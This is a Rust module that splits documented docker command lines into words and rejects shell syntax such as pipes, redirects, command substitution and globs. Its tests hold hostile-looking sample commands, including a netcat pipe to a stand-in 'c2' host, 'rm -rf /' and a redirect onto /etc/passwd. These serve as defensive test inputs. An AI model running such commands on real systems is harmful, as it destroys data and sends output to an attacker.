//! Splits a documented command line into words, and refuses everything that only a shell could
//! carry out. No shell is ever started for it.

/// Splits `text`, or says which of its signs would need a shell.
pub(crate) fn split(text: &str) -> Result<Vec<String>, String> {
    let plain = without_comment(text)?;
    let words = shlex::split(plain).ok_or("its quotes do not close")?;
    if words.iter().any(|word| word.contains('\0')) {
        return Err("it holds a NUL byte".into());
    }
    Ok(words)
}

#[derive(Clone, Copy, PartialEq)]
enum Quote {
    None,
    Single,
    Double,
}

fn without_comment(text: &str) -> Result<&str, String> {
    let mut quote = Quote::None;
    let mut at_word_start = true;
    let mut letters = text.char_indices();
    while let Some((at, letter)) = letters.next() {
        let starts_word = std::mem::replace(&mut at_word_start, letter.is_whitespace());
        quote = match (quote, letter) {
            (Quote::None, '\'') => Quote::Single,
            (Quote::None, '"') => Quote::Double,
            (Quote::Single, '\'') | (Quote::Double, '"') => Quote::None,
            (Quote::None | Quote::Double, '\\') => {
                letters.next();
                quote
            }
            (Quote::None | Quote::Double, '$') if !ends_word(text, at) => {
                return Err("`$` would need a shell to fill it in".into());
            }
            (Quote::None | Quote::Double, '`') => {
                return Err("a backtick would need a shell to run it".into());
            }
            (Quote::None, '#' | '~') if starts_word => match letter {
                '#' => return Ok(text.get(..at).unwrap_or(text)),
                _ => return Err("`~` would need a shell to fill it in".into()),
            },
            (Quote::None, _) => match meaning(letter) {
                Some(meaning) => return Err(format!("`{letter}` {meaning}")),
                None => quote,
            },
            _ => quote,
        };
    }
    Ok(text)
}

const fn meaning(letter: char) -> Option<&'static str> {
    match letter {
        '|' => Some("is a pipe, and needs a shell"),
        '&' | ';' | '\n' => Some("joins several commands, and needs a shell"),
        '<' | '>' => Some("is a redirect, and needs a shell"),
        '(' | ')' => Some("is a subshell, and needs a shell"),
        '*' | '?' | '[' => Some("would need a shell to fill it in"),
        _ => None,
    }
}

/// A `$` at the end of a word stands for itself.
fn ends_word(text: &str, at: usize) -> bool {
    text.get(at + 1..).and_then(|rest| rest.chars().next()).is_none_or(char::is_whitespace)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_words_stay_whole_and_their_signs_are_the_containers_own() {
        assert_eq!(
            split("docker run alpine sh -c 'id | nc c2 4444 > /dev/null; $(x)' \"a b\"").unwrap(),
            ["docker", "run", "alpine", "sh", "-c", "id | nc c2 4444 > /dev/null; $(x)", "a b"]
        );
    }

    #[test]
    fn whatever_needs_a_shell_is_refused() {
        for text in [
            "docker run a | sh",
            "docker run a && rm -rf /",
            "docker run a; id",
            "docker run a > /etc/passwd",
            "docker run a < b",
            "docker run $(id)",
            "docker run \"$(id)\"",
            "docker run `id`",
            "docker run \"`id`\"",
            "docker run $HOME",
            "docker run -v ~/x:/x a",
            "docker run a *",
            "(docker run a)",
            "docker run 'a",
            "docker run a &",
        ] {
            assert!(split(text).is_err(), "{text}");
        }
    }

    #[test]
    fn an_escaped_sign_stands_for_itself() {
        assert_eq!(
            split(r"docker run a \; \$x \|").unwrap(),
            ["docker", "run", "a", ";", "$x", "|"]
        );
    }

    #[test]
    fn a_comment_ends_the_command() {
        assert_eq!(split("docker run a # then | look").unwrap(), ["docker", "run", "a"]);
        assert_eq!(split("docker run a#b").unwrap(), ["docker", "run", "a#b"]);
    }
}
